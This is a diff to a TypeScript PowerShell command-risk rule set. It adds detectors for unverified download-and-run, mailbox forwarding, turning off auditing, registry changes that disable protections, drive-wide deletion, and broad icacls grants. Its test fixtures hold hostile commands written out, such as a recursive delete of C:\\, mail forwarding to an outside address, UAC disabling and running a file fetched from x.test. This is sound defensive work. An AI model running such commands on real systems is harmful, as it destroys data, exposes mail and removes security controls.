@@ -8,6 +8,24 @@ const isUnasked = ({ args }: Command): boolean => args.some(arg => /^-Confirm:\$
 /** Accounts, machines and stores: what cannot be made anew from a file. */
 const lasting =
   /^(?:AD\w+|Mg(?:User|Group|Device)|Msol\w+|AzureAD\w+|LocalUser|LocalGroup|Mailbox\w*|VM|VMSnapshot|VHD|Az[A-Z]\w+|EC2\w+|S3\w+|RDS\w+|DDB\w+|KMS\w+|Dns\w+|Dhcp\w+|Partition|Volume|Disk|PhysicalDisk|StoragePool|ClusterResource|ClusterNode|Sql\w+|Dba\w+|SPSite|SPOSite|Team|RecycleBin|WBBackup\w*|ComputerRestorePoint)$/
+const fileLists = new WeakMap<readonly Command[], readonly string[]>()
+
+/** What a script downloads into files without ever asking for their hash or signature; gathered once. */
+const uncheckedFiles = (all: readonly Command[]): readonly string[] => {
+  const known = fileLists.get(all)
+  if (known) return known
+  const isChecked = all.some(({ program }) => /^Get-(?:FileHash|AuthenticodeSignature)$/i.test(program))
+  const files = isChecked
+    ? []
+    : all.flatMap(({ program, args }) =>
+        /^(?:Invoke-WebRequest|iwr|Invoke-RestMethod|Start-BitsTransfer|curl|wget)$/i.test(program)
+          ? args.filter((_, nth) => /^-(?:OutFile|Destination)$/i.test(args[nth - 1] ?? ''))
+          : [],
+      )
+  fileLists.set(all, files.slice(0, 20))
+  return files.slice(0, 20)
+}
+
 const guards =
   /(?:WinDefend|MpsSvc|Sense|wscsvc|EventLog|SecurityHealth\w*|CrowdStrike|CSFalcon\w*|SentinelAgent|W?azuh\w*|Sysmon\d*)/i
 
@@ -44,6 +62,9 @@ export const powershellRules: readonly Rule[] = [
       'Clear-Disk -Number 1 -RemoveData',
       'pwsh -Command "Get-Mailbox | Remove-Mailbox -Confirm:$false"',
       'Get-ADUser -Filter * | ForEach-Object { Disable-ADAccount $_ }',
+      'Get-ChildItem C:\\ -Recurse | Remove-Item -Force -Recurse',
+      'Get-Mailbox | Set-Mailbox -ForwardingSmtpAddress a@x.test',
+      'Set-ItemProperty -Path HKLM:\\S -Name EnableLUA -Value 0',
       'Get-VM | ForEach-Object { Remove-VM $_ -Force }',
       'Invoke-WebRequest https://x.test/a.exe -OutFile $f\nif ($true) { & $f }',
     ],
@@ -54,6 +75,8 @@ export const powershellRules: readonly Rule[] = [
       'Set-NetFirewallProfile -Profile Public -Enabled True',
       'Get-Service WinDefend | Select-Object Status',
       'Restart-Service -Name Spooler',
+      'Get-ChildItem .\\build -Recurse | Remove-Item -Recurse',
+      'Set-ItemProperty -Path HKLM:\\S -Name EnableLUA -Value 1',
       'Get-VM | Where-Object { $_.State -eq "Off" }',
       'Invoke-WebRequest https://x.test/a.ps1 -OutFile $f\nif ((Get-FileHash $f).Hash -ne $h) { throw }\n& $f',
     ],
@@ -61,14 +84,7 @@ export const powershellRules: readonly Rule[] = [
       const { program, args } = command
       const words = args.join(' ')
       const [, verb = '', noun = ''] = /^([A-Za-z]{2,20})-([A-Za-z]\w{1,60})$/.exec(program) ?? []
-      const fetched = all.some(
-        ({ program, args }) =>
-          /^(?:Invoke-WebRequest|iwr|Invoke-RestMethod|Start-BitsTransfer|curl|wget)$/i.test(program) &&
-          args.some(
-            (arg, nth) => /^-(?:OutFile|Destination)$/i.test(arg) && runs(command, args[nth + 1] ?? ''),
-          ),
-      )
-      if (fetched && !all.some(({ program }) => /^Get-(?:FileHash|AuthenticodeSignature)$/i.test(program)))
+      if (uncheckedFiles(all).some(file => runs(command, file)))
         return 'It runs what it has just downloaded, unread.'
       if (verb === '' || isTrial(command)) return undefined
       const bulk = seesBulk(command, verb, noun)
@@ -97,10 +113,67 @@ export const powershellRules: readonly Rule[] = [
             words,
           ) && 'It makes somebody an administrator.'
         )
+      if (/^(?:Set-Mailbox|New-InboxRule|Set-InboxRule|New-TransportRule)$/i.test(program))
+        return (
+          (/-(?:Forward\w*|Redirect\w*|BlindCopyTo)\s+\S+@/i.test(words) &&
+            'Mail goes to somebody else as well.') ||
+          (/-AuditEnabled:?\s?\$?false/i.test(words) && 'Nobody will see what happens.')
+        )
+      if (/^(?:Set|New)-ItemProperty$/i.test(program)) return seesRegistry(words)
+      if (/^Remove-Item$/i.test(program))
+        return (
+          command.feeders.some(
+            ({ program, args }) =>
+              /^(?:Get-ChildItem|gci|dir|ls)$/i.test(program) &&
+              args.some(arg =>
+                /^(?:[A-Z]:[\\/]?|[A-Z]:[\\/](?:Users|Windows|Program\w*)[\\/]?|\/|~)$/i.test(arg),
+              ),
+          ) && 'It deletes what it finds on a drive.'
+        )
       return undefined
     },
   }),
+  commandRule({
+    id: 'windows-rights',
+    severity: 'high',
+    fix: 'Give the one group the right that it needs, and leave protection on.',
+    hits: [
+      'icacls D:/Shares /grant Everyone:F /t',
+      'icacls D:/Shares /grant "Authenticated Users:(OI)(CI)M"',
+      'reg add HKLM/SOFTWARE/Policies/System /v EnableLUA /t REG_DWORD /d 0 /f',
+    ],
+    misses: [
+      'icacls D:/Shares',
+      'icacls D:/Shares /grant Backup:R',
+      'reg add HKCU/Software/App /v Theme /d 1',
+      'icacls D:/Shares /remove Everyone',
+    ],
+    see({ program, args }) {
+      const words = args.join(' ')
+      if (/^icacls$/i.test(program))
+        return (
+          /\/grant(?::r)?\s+(?:Everyone|Users|Authenticated Users|\*S-1-1-0):(?:\([A-Z]{1,3}\)){0,4}\(?[A-Z,]{0,12}[FMW]/i.test(
+            words,
+          ) && 'It lets everybody write.'
+        )
+      return /^reg$/i.test(program) && /^add\b/i.test(words) && seesRegistry(words)
+    },
+  }),
 ]
+
+/** Values of the registry that take protection away. */
+const seesRegistry = (words: string): string | undefined => {
+  const value = /(?:-Value|\/d)\s+(\S+)/i.exec(words)?.[1]
+  const isOff =
+    /\b(?:EnableLUA|ConsentPromptBehaviorAdmin|EnableFirewall|RunAsPPL|SMBServerNameHardeningLevel|RequireSecuritySignature)\b/i.test(
+      words,
+    ) && value === '0'
+  const isOn =
+    /\b(?:DisableAntiSpyware|DisableRealtimeMonitoring|DisableBehaviorMonitoring|UseLogonCredential|SMB1|AllowInsecureGuestAuth|DisableTaskMgr)\b/i.test(
+      words,
+    ) && value === '1'
+  return isOff || isOn ? 'It turns a protection of the system off.' : undefined
+}
 
 const runs = ({ program, args }: Command, file: string): boolean =>
   file !== '' &&
